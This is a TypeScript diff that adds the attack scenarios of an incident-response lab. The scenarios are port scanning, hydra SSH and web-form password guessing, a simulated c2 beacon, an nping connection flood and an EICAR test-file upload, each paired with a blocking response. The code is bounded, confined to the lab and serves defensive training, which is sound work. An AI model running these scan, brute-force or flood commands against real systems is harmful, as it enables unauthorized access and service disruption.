@@ -1,0 +1,136 @@
+/** What can be done to the response lab, each with the answer that stops it. All of it is bounded and stays in the lab. */
+import { createHash } from 'node:crypto'
+import { writeFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import { beacon, guessPasswords, scanPorts } from '../attacks/index.ts'
+import type { Host } from '../host.ts'
+import type { HostName } from '../plan.ts'
+import { World } from '../world.ts'
+import type { ResponseHosts } from './lab.ts'
+
+export interface AttackOptions {
+  /** How many guesses, calls or requests. */
+  readonly count?: number
+  /** Seconds between two calls. */
+  readonly everySeconds?: number
+  readonly seed?: number
+}
+
+export interface ResponseAttack {
+  readonly name: string
+  readonly says: string
+  /** The kind of action that stops it. */
+  readonly answer: string
+  /** Yields what came of it, in a sentence. */
+  readonly run: (lab: ResponseHosts, options?: AttackOptions) => Promise<string>
+}
+
+export const responseAttacks: readonly ResponseAttack[] = [
+  {
+    name: 'port-scan-then-ssh',
+    says: 'attacker scans web1 with nmap, then guesses at SSH passwords with hydra',
+    answer: 'block_ip',
+    run: scanThenGuess,
+  },
+  {
+    name: 'beacon',
+    says: 'app1 calls c2 over HTTP, again and again, as a program that waits for orders',
+    answer: 'isolate_host',
+    run: callHome,
+  },
+  {
+    name: 'dos',
+    says: 'attacker opens 500 connections to web1 each second with nping, and says nothing on them',
+    answer: 'rate_limit',
+    run: floodWithConnections,
+  },
+  {
+    name: 'web-attack',
+    says: 'attacker guesses at passwords of the login form of web1 with hydra',
+    answer: 'redirect_to_honeypot',
+    run: guessAtForm,
+  },
+  {
+    name: 'dropped-file',
+    says: 'attacker leaves the harmless EICAR test file in the uploads of web1',
+    answer: 'quarantine_file',
+    run: dropFile,
+  },
+]
+
+async function scanThenGuess(lab: ResponseHosts, options: AttackOptions = {}): Promise<string> {
+  const { count = 40, seed = 1 } = options
+  const world = worldOf(lab, seed)
+  const target = lab.host('web1').address
+  await scanPorts(world, { target, how: ['-sS', '-T4', '-p', '1-1000'] })
+  const found = await guessPasswords(world, { service: 'ssh', target, passwords: count })
+  return found === undefined ? 'no password was found' : 'a password was found'
+}
+
+async function callHome(lab: ResponseHosts, options: AttackOptions = {}): Promise<string> {
+  const { count: calls = 60, everySeconds = 1, seed = 1 } = options
+  await beacon(worldOf(lab, seed), { from: 'app1', calls, everySeconds, taskEvery: 0 })
+  return `${calls} calls were made`
+}
+
+/** Handshakes that are completed, so that the address is no forged one, and of which nothing comes. */
+async function floodWithConnections(
+  lab: ResponseHosts,
+  options: AttackOptions = {},
+): Promise<string> {
+  const { count = 4_000 } = options
+  const bounds = ['--rate', '500', '-c', String(count)]
+  const line = ['timeout', '120', 'nping', '-q', '--tcp-connect', '-p', '80', ...bounds]
+  const { stdout } = await lab.host('attacker').attempt([...line, lab.host('web1').address])
+  const opened = /Successful connections: (\d+)/.exec(stdout)?.[1] ?? '0'
+  return `${opened} of ${count} connections were opened`
+}
+
+async function guessAtForm(lab: ResponseHosts, options: AttackOptions = {}): Promise<string> {
+  const { count = 60 } = options
+  const attacker = lab.host('attacker')
+  const list = join(attacker.folder, 'form-passwords.txt')
+  const words = Array.from({ length: count }, (_, i) => `Autumn${2000 + i}!`)
+  await writeFile(list, `${words.join('\n')}\n`)
+  const form = '/login:user=^USER^&password=^PASS^:F=Wrong'
+  const line = ['hydra', '-I', '-l', 'admin', '-P', list, '-t', '4', lab.host('web1').address]
+  // hydra leaves its restore file in the working folder.
+  const shell = `cd ${attacker.folder} && exec "$@"`
+  const { stdout } = await attacker.attempt([
+    ...['sh', '-c', shell, 'sh', 'timeout', '120', ...line],
+    ...['http-post-form', form],
+  ])
+  return /password: /.test(stdout) ? 'a password was found' : 'no password was found'
+}
+
+/** The test file of the makers of virus scanners, in two halves, so that no scanner finds it here. */
+const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!$H+H*'].join('')
+
+export interface DroppedFile {
+  readonly path: string
+  readonly sha256: string
+}
+
+/** Where `dropped-file` leaves it, and its hash: what a scanner on web1 would report. */
+export function droppedFile(lab: ResponseHosts): DroppedFile {
+  const path = join(lab.host('web1').folder, 'www', 'upload', 'invoice.com')
+  return { path, sha256: createHash('sha256').update(eicar).digest('hex') }
+}
+
+async function dropFile(lab: ResponseHosts): Promise<string> {
+  const attacker = lab.host('attacker')
+  const local = join(attacker.folder, 'invoice.com')
+  await writeFile(local, eicar)
+  await upload(attacker, local, `http://${lab.host('web1').address}/upload/invoice.com`)
+  const { path, sha256 } = droppedFile(lab)
+  return `left ${path}, SHA-256 ${sha256}`
+}
+
+async function upload(from: Host, file: string, url: string): Promise<void> {
+  await from.run(['curl', '-s', '-f', '-m', '10', '-T', file, url])
+}
+
+function worldOf(lab: ResponseHosts, seed: number): World {
+  // The attacks name hosts that both labs have.
+  return new World({ host: (name: HostName) => lab.host(name as 'attacker') }, seed)
+}
